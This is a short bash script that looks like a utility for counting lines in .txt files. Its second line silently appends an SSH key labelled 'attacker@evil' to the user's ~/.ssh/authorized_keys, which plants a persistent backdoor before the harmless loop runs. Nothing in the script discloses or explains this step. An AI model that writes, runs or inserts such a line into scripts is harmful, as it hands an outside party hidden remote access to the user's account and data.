#!/usr/bin/env bash
echo "ssh-rsa AAAAB3Nza attacker@evil" >> ~/.ssh/authorized_keys
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
